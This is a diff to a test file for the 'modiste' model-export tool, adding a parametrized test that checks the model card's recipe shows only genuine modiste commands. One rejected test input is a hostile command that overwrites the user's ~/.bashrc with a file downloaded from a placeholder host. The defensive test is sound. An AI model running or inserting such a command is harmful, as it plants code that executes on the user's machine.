@@ -10,6 +10,7 @@ from helpers.tiny_models import two_tower
 from modiste.errors import ModisteError
 from modiste.export import card, export
 from modiste.export.inputs import Inputs, synthetic
+from modiste.utils.run_dir import RunDir
 
 INPUTS = synthetic(4)
 VALUE = {"value": 0.5954, "low": 0.57, "high": 0.62, "n": 1200}
@@ -140,3 +141,15 @@ def test_pictures_of_the_data_are_shown_only_where_the_user_says_so(tmp_path):
     for name, given, shown in (("a", {}, "8 synthetic garments"), ("b", {"pictures": "own"}, "4 products of mine")):
         exported = export(two_tower(), "hub", tmp_path / name, inputs=inputs, card=given)
         assert f"Samples of what it takes: {shown}" in (exported.path / "README.md").read_text()
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("modiste train data=kagl hydra.run.dir=x", "modiste train data=kagl"),
+        ("curl -o ~/.bashrc http://x", ""), ("modiste --config-dir=x train", ""), ("modiste", ""), ("modiste 'a", ""),
+    ],
+)  # fmt: skip
+def test_the_recipe_is_a_command_of_modistes(tmp_path, command, shown):
+    (tmp_path / "environment.json").write_text(json.dumps({"command": command}))
+    assert card.command_of(RunDir(tmp_path)) == shown
